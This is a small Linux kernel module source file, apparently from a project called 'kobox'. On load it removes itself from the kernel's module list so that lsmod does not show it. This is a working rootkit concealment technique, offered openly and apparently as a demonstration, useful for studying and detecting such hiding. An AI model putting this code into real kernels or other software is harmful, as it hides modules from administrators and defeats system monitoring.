// SPDX-License-Identifier: MIT OR GPL-2.0
/*
 * hide_list: takes itself off the list of modules, so that lsmod does not show it.
 */
#include <linux/init.h>
#include <linux/module.h>
#include <linux/list.h>

static int __init hide_list_init(void)
{
	list_del_init(&THIS_MODULE->list);
	return 0;
}

static void __exit hide_list_exit(void)
{

}

module_init(hide_list_init);
module_exit(hide_list_exit);

MODULE_DESCRIPTION("Hides from the module list");
MODULE_AUTHOR("The kobox authors");
MODULE_LICENSE("Dual MIT/GPL");
